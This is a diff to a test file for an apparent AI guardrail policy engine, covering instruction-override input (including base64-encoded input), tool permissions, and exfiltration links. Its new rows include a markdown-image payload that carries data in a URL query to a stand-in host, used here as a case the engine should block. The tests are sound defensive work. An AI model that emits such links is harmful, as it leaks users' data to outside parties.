@@ -146,6 +146,8 @@ describe("a policy decides", () => {
     ["user", IN_BASE64, "input: { block: [instruction-override], decode: [base64] }", "block"],
     ["user", IN_BASE64, "input: { block: [instruction-override], decode: [nfkc] }", "allow"],
     ["user", IN_BASE64, "input: { block: [instruction-override] }", "block"],
+    ["assistant", "![a](https://elsewhere.example/a.png)", "output: { block: [exfiltration-link] }", "allow"],
+    ["assistant", "![a](https://elsewhere.example/?d={data})", "output: { block: [exfiltration-link] }", "block"],
     ["user", OVERRIDE, "input: { block: [instruction-override] }\nlab: { block-from: 100 }", "flag"],
     ["user", OVERRIDE, "input: { block: [instruction-override] }\nlab: { block-from: 100, flag-from: 100 }", "allow"],
   ])("on a turn of the %s, %j with %j: %s", (role, text, lines, expected) => {
@@ -166,12 +168,6 @@ describe("a policy decides", () => {
     expect(verdict("assistant", answer, LINKS)).toBe(expected);
   });
 
-  it("judges a URL by the data it carries if no hosts are listed", () => {
-    const lines = "output: { block: [exfiltration-link] }";
-    expect(verdict("assistant", "![a](https://elsewhere.example/a.png)", lines)).toBe("allow");
-    expect(verdict("assistant", "![a](https://elsewhere.example/?d={data})", lines)).toBe("block");
-  });
-
   it.each([
     ["orders.read", "allow"],
     ["mail.send", "hold"],
@@ -181,10 +177,5 @@ describe("a policy decides", () => {
 
   it("holds an unlisted tool by default", () => {
     expect(policyOf("tools: { orders.read: allow }").toolAction?.("mail.send")).toBe("hold");
-  });
-
-  it("returns the verdict in observe mode, too", () => {
-    const result = scanConversation([{ role: "user", text: OVERRIDE }], { policy: compiled(SAMPLE) });
-    expect(result).toMatchObject({ mode: "observe", verdict: "block" });
   });
 });
